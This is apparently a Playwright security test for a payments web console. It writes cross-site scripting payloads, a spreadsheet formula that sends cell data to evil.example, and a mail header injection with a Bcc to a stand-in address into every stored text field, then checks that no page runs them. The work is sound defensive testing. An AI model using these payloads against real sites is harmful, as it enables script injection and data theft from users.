// Scripts in every field that somebody can fill: kept as they are, shown as text on every page, and run on none.
import { type BrowserContext, expect, type Page, test } from "@playwright/test";
import { signIn } from "./support/console";
import { addressOf, type Furnished, furnish, pagesOf, type Section, userOf, visit } from "./support/console-pages";
import { ownProduct, type Product } from "./support/product";
import { accessToken } from "./support/rest";

/** Breaks out of text, of attributes, of scripts and of comments, loads, runs, and says that it was taken as markup. */
const MARKUP = [
  `"'><img src=x onerror=ran(1) data-planted>`,
  `<script data-planted>ran(2)</script>`,
  `</script></style></textarea></title><svg data-planted onload=ran(3)>`,
  `--><iframe data-planted srcdoc="<script>parent.ran(4)</script>"></iframe>`,
  `<a data-planted href="javascript:ran(5)" autofocus onfocus=ran(6)>x</a>`,
  `\${ran(7)}{{ran(8)}}<!--`,
].join("");
/** Begins as a formula does, turns the writing round, and breaks lines as headers of a mail are broken. */
const SCRIPT = `=HYPERLINK("http://evil.example?x="&A1)\u202E${MARKUP}\r\nBcc: stolen@evil.example\r\n\r\n@SUM(1)`;
/** What can be an address of a page only by mistake. */
const ADDRESS = `javascript:ran(9)//${MARKUP}`;
/** A browser says no line breaks of itself. */
const USER_AGENT = `Mozilla/5.0 ${MARKUP}`;

/**
 * What people, shops, banks and receivers have written, whichever way it came: the rules of each way in are tested
 * beside them, and what got past one in an earlier version is kept all the same.
 */
const TEXTS: Record<string, string[]> = {
  account_consents: ["reason"],
  account_readings: ["problem"],
  api_calls: ["path", "request", "answer", "user_agent", "idempotency_key"],
  attempt_payers: ["account_masked"],
  attempt_transitions: ["raw_status"],
  bank_calls: ["code"],
  banks: ["name", "display_name"],
  credentials: ["name"],
  mails: ["subject", "text", "error"],
  managed_accounts: ["bank_name", "holder_name"],
  merchants: ["brand_name", "suspended_reason"],
  partners: ["name"],
  payment_attempts: ["bank_payment_id", "psu_message", "raw_status", "reason"],
  payment_link_mails: ["recipient_masked"],
  payment_links: ["payment_reference", "order_id"],
  payment_requests: ["payment_reference", "order_id", "status_reason", "bank_name"],
  passkeys: ["name"],
  statement_entries: ["remittance", "counterparty", "note", "return_reason", "end_to_end_id"],
  users: ["name"],
  user_sessions: ["user_agent"],
  webhook_deliveries: ["reason"],
  webhook_delivery_attempts: ["response_body", "error", "detail", "remote_address"],
};
const ADDRESSES: Record<string, string[]> = {
  payment_links: ["success_url", "failure_url"],
  payment_requests: ["success_url", "failure_url"],
  payment_attempts: ["sca_redirect_url"],
  webhook_delivery_attempts: ["url"],
};
const OBJECTS: Record<string, string[]> = {
  audit_entries: ["detail", "before", "after"],
  payment_links: ["metadata"],
  payment_requests: ["customer", "billing_address", "metadata"],
  webhook_delivery_attempts: ["response_headers", "request_headers"],
};

const FURNISHED_WITHIN_MS = 180_000;
test.describe.configure({ mode: "serial", timeout: 240_000 });
let product: Product;
let made: Furnished;
test.beforeAll(async ({ browser }) => {
  test.setTimeout(FURNISHED_WITHIN_MS);
  product = await ownProduct();
  await product.start();
  const [owner, shopper] = [await browser.newContext({ userAgent: USER_AGENT }), await browser.newContext()];
  const [page, shop] = [await owner.newPage(), await shopper.newPage()];
  const { base, query } = product;
  await signIn(page, base);
  made = await furnish({ page, shopper: shop, base, query, mark: "scripts", invitedName: MARKUP.slice(0, 60) });
  await order(page);
  await plant();
  await Promise.all([owner.close(), shopper.close()]);
});
test.afterAll(() => product.remove());

/** By the API, as an integrator sends what shoppers typed. */
async function order({ request }: Page): Promise<void> {
  const token = await accessToken(request, product.base, await product.shopCredential());
  const answer = await request.post(`${product.base}/api/v1/embedded/payment-requests`, {
    headers: { Authorization: `Bearer ${token}`, "User-Agent": USER_AGENT },
    data: {
      customer: { id: MARKUP.slice(0, 60), name: MARKUP.slice(0, 60) },
      order: { amount: 2550, currency: "EUR", order_id: MARKUP.slice(0, 35) },
    },
  });
  expect([answer.status(), await answer.text()]).toEqual([201, expect.any(String)]);
}

/** Past every rule, and without what the database does by itself. */
async function plant(): Promise<void> {
  const literal = (text: string) => `convert_from(decode('${Buffer.from(text).toString("hex")}', 'hex'), 'UTF8')`;
  const object = `jsonb_build_object('id', ${literal(SCRIPT)}, 'name', ${literal(SCRIPT)}, ${literal(MARKUP)}, ${literal(SCRIPT)})`;
  const updates = ([fields, value]: readonly [Record<string, string[]>, string]) =>
    Object.entries(fields).map(
      ([table, columns]) => `UPDATE ${table} SET ${columns.map((column) => `${column} = ${value}`).join(", ")};`,
    );
  const all = [[TEXTS, literal(SCRIPT)] as const, [ADDRESSES, literal(ADDRESS)] as const, [OBJECTS, object] as const];
  await product.query(`BEGIN; SET LOCAL session_replication_role = replica; ${all.flatMap(updates).join(" ")} COMMIT;`);
}

/** What ran, was about to run, or was taken as markup, on whatever page. */
async function watchScripts(context: BrowserContext): Promise<string[]> {
  const found: string[] = [];
  await context.exposeBinding("ran", ({ page }, which: number) => found.push(`ran ${which} on ${page.url()}`));
  await context.exposeBinding("refused", ({ page }, what: string) => found.push(`refused ${what} on ${page.url()}`));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, sample, blockedURI }) =>
      (window as unknown as { refused: (what: string) => void }).refused(
        `${violatedDirective} ${blockedURI} ${sample}`.trim(),
      ),
    );
  });
  context.on("dialog", (dialog) => {
    found.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return found;
}

/** Runs in every frame: elements that somebody else's text has become, and addresses that would run. */
function plantedIn(): string[] {
  const runs = /^\s*javascript:/i;
  const attributes = ["href", "src", "action", "formaction", "srcdoc"];
  const all = [...document.querySelectorAll("*")];
  return all.flatMap((element) => [
    ...(element.hasAttribute("data-planted") ? [`markup <${element.localName}>`] : []),
    ...attributes.flatMap((name) => (runs.test(element.getAttribute(name) ?? "") ? [`${name} runs`] : [])),
  ]);
}

async function planted(page: Page): Promise<string[]> {
  const ofFrames = await Promise.all(page.frames().map((frame) => frame.evaluate(plantedIn).catch(() => [])));
  return ofFrames.flat().map((what) => `${what} on ${page.url()}`);
}

const SECTIONS: Section[][] = [["console", "account", "invitation", "outbox"], ["acting"], ["operator"]];
for (const sections of SECTIONS) {
  test(`nothing that is kept runs on a page of ${sections.join(", ")}`, async ({ page, context }) => {
    await signIn(page, product.base, userOf(sections[0] ?? "console"));
    await plant();
    const found = await watchScripts(context);
    let shown = 0;
    for (const pattern of sections.flatMap(pagesOf)) {
      await visit(page, product.base + addressOf(pattern, made));
      found.push(...(await planted(page)));
      if ((await page.locator("body").innerText()).includes("onerror=ran(1)")) shown += 1;
    }
    expect(found).toEqual([]);
    // It is there, as text: the pages were not empty.
    expect(shown).toBeGreaterThanOrEqual(sections.length);
  });
}

test("twin: a page that forgot to escape is caught, with a content policy and without", async ({ page, context }) => {
  const found = await watchScripts(context);
  const address = "http://forgetful.example/";
  const caught: string[][] = [];
  for (const headers of [{ "Content-Security-Policy": "script-src 'nonce-x'" }, {}]) {
    await page.route(`${address}**`, (route) => route.fulfill({ contentType: "text/html", headers, body: MARKUP }));
    await page.goto(address);
    await expect.poll(() => found.length).toBeGreaterThan(0);
    caught.push([...found.splice(0), ...(await planted(page))]);
    await page.unroute(`${address}**`);
  }
  expect(caught[0]?.join()).toMatch(/^refused script-src.*markup <img>/s);
  expect(caught[1]?.join()).toMatch(/ran [1-6] on .*markup <img>/s);
});
